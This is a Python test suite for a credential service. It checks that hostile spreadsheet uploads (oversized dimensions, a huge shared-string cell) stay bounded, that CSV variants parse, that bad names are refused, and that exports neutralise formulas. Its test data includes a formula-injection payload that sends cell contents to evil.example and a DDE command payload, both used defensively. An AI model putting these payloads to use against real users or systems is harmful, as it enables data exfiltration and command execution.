"""Uploads are bounded by work, not bytes (issue 10), on SQLite and PostgreSQL: hostile sheets sent to
a real server slow only themselves; every CSV endpoint reads every spreadsheet's CSV and refuses an
oversized one by row; names are checked the same in every format; exports hold no live formula."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import socket
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select, update
from typer.testing import CliRunner

from credential_service.assessment.occupations.models import Occupation
from credential_service.assessment.workflow.models import Candidate, ResultSubmission
from credential_service.cli import app as cli
from credential_service.core.config import Settings
from credential_service.demo import demo_id_number, demo_name
from credential_service.identity.models import Person
from credential_service.issuers.models import Issuer
from credential_service.runtime import Runtime
from tests.factories import issue_certificate
from tests.hostile_files import HEADER, candidate, crafted_dimension_xlsx, huge_cell_xlsx, sheet_xml, workbook
from tests.integration.test_assessment_workflow import PLAN, _credit_code, _plan, _register, _sheet

MAX_RSS_KIB = 300 * 1024


def _people(seed: int, count: int) -> list[tuple[str, str]]:
    rng = random.Random(seed)
    return [(demo_id_number(rng), demo_name(rng)) for _ in range(count)]


# --- a hostile upload slows only itself ---------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture
def server(settings: Settings, runtime: Runtime) -> Iterator[tuple[str, int]]:
    """uvicorn in its own process (so its memory is its own) on the test's database and keys."""
    port = _free_port()
    env = {
        **os.environ,
        "CS_ENVIRONMENT": "test",
        "CS_DATABASE_URL": settings.database_url,
        "CS_KEYSTORE_DIR": str(settings.keystore_dir),
        "CS_KEYSTORE_PASSPHRASE": settings.passphrase(),
        "CS_PUBLIC_BASE_URL": settings.public_base_url,
        "CS_STATUS_LIST_SIZE": str(settings.status_list_size),
        "CS_VERIFY_QUERIES_PER_MINUTE": "100000",
        "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
    }
    command = [sys.executable, "-m", "uvicorn", "credential_service.asgi:app", "--host", "127.0.0.1"]
    process = subprocess.Popen(
        [*command, "--port", str(port), "--log-level", "warning", "--no-access-log"], env=env
    )
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 30
    while True:
        try:
            if httpx.get(f"{base}/healthz", timeout=1).status_code == 200:
                break
        except httpx.TransportError:
            pass
        if process.poll() is not None or time.monotonic() > deadline:
            process.kill()
            pytest.fail("uvicorn did not start")
        time.sleep(0.1)
    try:
        yield base, process.pid
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def _rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


@pytest.mark.slow
def test_hostile_sheets_slow_only_themselves(
    server: tuple[str, int], runtime: Runtime, organisation: Issuer, admin_headers: dict[str, str]
) -> None:
    base, pid = server
    _code, headers = _register(runtime, "990011", _credit_code(11))
    record = issue_certificate(runtime, organisation)
    credential = json.loads(record.credential_json)
    status = credential["credentialStatus"]
    status_path = urlsplit((status[0] if isinstance(status, list) else status)["statusListCredential"]).path
    with httpx.Client(base_url=base, timeout=5) as http:
        assert http.post("/api/v1/plans", json=PLAN, headers=headers).status_code == 201
        qr = http.get(f"/api/v1/certificates/{record.certificate_number}/qr.png", headers=admin_headers)
        probes = ["/healthz", urlsplit(qr.headers["x-verification-url"]).path, status_path]
        for path in probes:
            assert http.get(path).status_code == 200, path

        id_number = demo_id_number(random.Random(3))
        no_dimension = workbook(
            sheet_xml({1: HEADER, 2: candidate(id_number, "王伟"), 300_000: candidate(id_number, "王伟")})
        )
        hostile = {
            "max_rows": crafted_dimension_xlsx(id_number),  # declares A1:XFD300000
            "max_shared_strings_bytes": huge_cell_xlsx(id_number),  # one 400 MiB cell, 0.4 MB sent
            "max_rows ": no_dimension,  # the same rows without a dimension: counted as read
        }
        for limit, content in hostile.items():
            answer: list[httpx.Response] = []
            started = time.monotonic()

            def upload(content: bytes = content, answer: list[httpx.Response] = answer) -> None:
                answer.append(
                    http.post(
                        "/api/v1/plans/HJ-2026-11/results/upload",
                        files={"file": ("results.xlsx", content)},
                        headers=headers,
                    )
                )

            sender = threading.Thread(target=upload)
            sender.start()
            rounds = 0
            while sender.is_alive() or rounds < 3:
                for path in probes:
                    asked = time.monotonic()
                    response = httpx.get(f"{base}{path}", timeout=1)
                    assert response.status_code == 200 and time.monotonic() - asked < 1, (limit, path)
                assert _rss_kib(pid) < MAX_RSS_KIB, limit
                rounds += 1
            sender.join()
            assert time.monotonic() - started < 15, limit
            assert answer[0].status_code == 422, answer[0].text
            assert limit.strip() in answer[0].json()["title"], answer[0].json()
        assert _rss_kib(pid) < MAX_RSS_KIB


# --- every CSV endpoint reads every spreadsheet's CSV -------------------------------------------------

VARIANTS = ["LF", "CRLF", "CR", "BOM", "GBK", "oversized field"]


def _csv(lines: list[str], variant: str) -> bytes:
    if variant == "oversized field":  # row 3 holds a cell past csv's own 131,072-character limit
        lines = [*lines[:2], lines[1].replace(",", "," + "王" * 131_073, 1)]
    end = {"LF": "\n", "CR": "\r"}.get(variant, "\r\n")
    text = end.join(lines) + end
    if variant == "GBK":
        return text.encode("gbk")
    return ("\ufeff" if variant == "BOM" else "").encode() + text.encode()


def _results(variant: str, client: TestClient, runtime: Runtime, **_: object) -> tuple[int, str]:
    _code, headers = _register(runtime, "990012", _credit_code(12))
    assert _plan(client, headers).status_code == 201
    rows = [",".join(candidate(n, name)) for n, name in _people(4, 2)]
    content = _csv([",".join(HEADER), *rows], variant)
    response = client.post(
        "/api/v1/plans/HJ-2026-11/results/upload", files={"file": ("r.csv", content)}, headers=headers
    )
    if response.status_code == 201:
        assert response.json()["accepted"] == 2
    return response.status_code, response.text


def _bulk(
    variant: str, client: TestClient, runtime: Runtime, organisation: Issuer, **_: object
) -> tuple[int, str]:
    record = issue_certificate(runtime, organisation)
    name = json.loads(record.credential_json)["credentialSubject"]["name"]
    lines = ["证书编号,姓名", f"{record.certificate_number},{name}"]
    response = client.post(
        "/api/v1/verify/bulk", content=_csv(lines, variant), headers={"Content-Type": "text/csv"}
    )
    if response.status_code == 200:
        assert [r["match"] for r in response.json()["results"]] == [True]
    return response.status_code, response.text


def _occupations(
    variant: str,
    runtime: Runtime,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    **_: object,
) -> tuple[int, str]:
    """The CLI ``occupations import`` (the only way in for the catalogue)."""
    for key, value in {
        "CS_DATABASE_URL": settings.database_url,
        "CS_KEYSTORE_DIR": str(settings.keystore_dir),
        "CS_KEYSTORE_PASSPHRASE": settings.passphrase(),
        "CS_PUBLIC_BASE_URL": settings.public_base_url,
    }.items():
        monkeypatch.setenv(key, value)
    source = tmp_path / "catalogue.csv"
    source.write_bytes(_csv(["职业编码,职业名称,工种", "6-18-01-01,车工,普通车工、数控车工"], variant))
    result = CliRunner().invoke(cli, ["occupations", "import", str(source)])
    if result.exit_code == 0:
        with runtime.session() as session:
            turner = session.scalar(select(Occupation).where(Occupation.code == "6-18-01-01"))
            assert turner is not None and turner.name == "车工"
    return {0: 200, 1: 422}.get(result.exit_code, 500), result.output  # 500: a traceback


ENDPOINTS: dict[str, Callable[..., tuple[int, str]]] = {
    "results upload": _results,
    "bulk verify": _bulk,
    "occupations import": _occupations,
}


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("variant", VARIANTS)
def test_every_csv_endpoint_reads_every_spreadsheet_csv(
    endpoint: str,
    variant: str,
    client: TestClient,
    runtime: Runtime,
    organisation: Issuer,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    status, text = ENDPOINTS[endpoint](
        variant,
        client=client,
        runtime=runtime,
        organisation=organisation,
        settings=settings,
        tmp_path=tmp_path,
        monkeypatch=monkeypatch,
    )
    if variant == "oversized field":
        assert status == 422 and ("row 3" in text or "第 3 行" in text), text
    else:
        assert status in (200, 201), text


# --- names: the same rule in every format, by row ------------------------------------------------------

BAD_NAMES = ["王\x00伟", "王" * 51, "王\t伟", "王\u200b伟", '=HYPERLINK("http://evil.example/?x="&A1,"点我")']


def _submit_names(fmt: str, names: list[str], client: TestClient, headers: dict[str, str]) -> httpx.Response:
    rows = [candidate(n, name) for (n, _), name in zip(_people(5, len(names)), names, strict=True)]
    url = "/api/v1/plans/HJ-2026-11/results"
    if fmt == "json":
        keys = ("document_type", "id_number", "name", "theory", "skill")
        return client.post(
            url, json={"rows": [dict(zip(keys, r, strict=True)) for r in rows]}, headers=headers
        )
    if fmt == "csv":
        out = io.StringIO()
        csv.writer(out).writerows([HEADER, *rows])
        content = out.getvalue().encode()
    else:
        content = _sheet(rows)
    return client.post(f"{url}/upload", files={"file": (f"r.{fmt}", content)}, headers=headers)


@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
def test_bad_names_are_refused_by_row_in_every_format(fmt: str, client: TestClient, runtime: Runtime) -> None:
    _code, headers = _register(runtime, "990013", _credit_code(13))
    assert _plan(client, headers).status_code == 201
    first = 1 if fmt == "json" else 2  # JSON rows count from 1; a sheet's header is row 1
    # An .xlsx cannot hold NUL at all (XML 1.0): a line feed stands in for it there.
    bad = [name.replace("\x00", "\n") for name in BAD_NAMES] if fmt == "xlsx" else BAD_NAMES
    response = _submit_names(fmt, ["王伟", *bad], client, headers)  # the first row is fine
    assert response.status_code == 422, response.text
    assert [e["loc"] for e in response.json()["errors"]] == [
        f"row {first + i}: 姓名" for i in range(1, len(BAD_NAMES) + 1)
    ]
    # 5,000 characters: a bad name in JSON; in a file, a cell over the sheet's limit (by row, too).
    response = _submit_names(fmt, ["王伟", "王" * 5_000], client, headers)
    assert response.status_code == 422, response.text
    loc = response.json()["errors"][0]["loc"]
    assert loc == (f"row {first + 1}: 姓名" if fmt == "json" else f"row {first + 1}")
    with runtime.session() as session:
        assert session.scalar(select(Person).limit(1)) is None  # nothing recorded, nothing signed


# --- exports hold no live formula ----------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0"]


def test_the_national_export_neutralises_formulas(client: TestClient, runtime: Runtime) -> None:
    _code, headers = _register(runtime, "990014", _credit_code(14))
    assert _plan(client, headers).status_code == 201
    people = _people(6, 2)
    rows = [
        {"document_type": "resident_id", "id_number": n, "name": m, "theory": 80, "skill": 80}
        for n, m in people
    ]
    submission = client.post("/api/v1/plans/HJ-2026-11/results", json={"rows": rows}, headers=headers).json()
    with runtime.session() as session:
        session.execute(update(ResultSubmission).values(publicity_ends_on=date.today() - timedelta(days=1)))
    issue = client.post(f"/api/v1/submissions/{submission['public_id']}/issue", headers=headers)
    assert issue.status_code == 200
    # Names the name rule now refuses, as recorded before it existed: the export must not rely on it.
    with runtime.session() as session:
        person_ids = session.scalars(select(Candidate.person_id).order_by(Candidate.certificate_number)).all()
        for person_id, name in zip(person_ids, FORMULAS, strict=True):
            session.execute(update(Person).where(Person.id == person_id).values(name=name))
    export = f"/api/v1/submissions/{submission['public_id']}/national-export"
    text = client.get(f"{export}.csv", headers=headers).content.decode("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert names == ["'" + name for name in FORMULAS]
    content = client.get(f"{export}.xlsx", headers=headers).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS and {c.data_type for c in cells} == {"s"}
    # The 工种 placeholder "--" and other dash-led values stay text too.
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)
